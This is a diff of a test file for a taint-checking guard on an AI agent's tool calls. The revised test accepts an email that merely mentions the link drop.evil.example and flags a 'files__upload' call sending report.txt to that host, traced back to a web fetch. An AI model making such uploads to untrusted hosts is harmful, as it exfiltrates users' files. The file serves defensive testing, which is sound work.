@@ -200,10 +200,18 @@ describe('taint check', () => {
         ],
       },
     });
-    const r = svc.check(
-      'a',
-      send({ to: ['bob@mycorp.com'], body: 'see https://drop.evil.example/u' }),
-    );
+    // Mentioning the link to a colleague sends nothing to it …
+    expect(
+      svc.check('a', send({ to: ['bob@mycorp.com'], body: 'see https://drop.evil.example/u' })),
+    ).toBeNull();
+    // … uploading to it does.
+    const r = svc.check('a', {
+      tool: 'files__upload',
+      sourceKind: 'remote',
+      sourceLabel: 'files',
+      readOnly: false,
+      args: { url: 'https://drop.evil.example/u', name: 'report.txt' },
+    });
     expect(r?.findings[0]?.text).toContain('a result of web__fetch from the server "web"');
   });
 
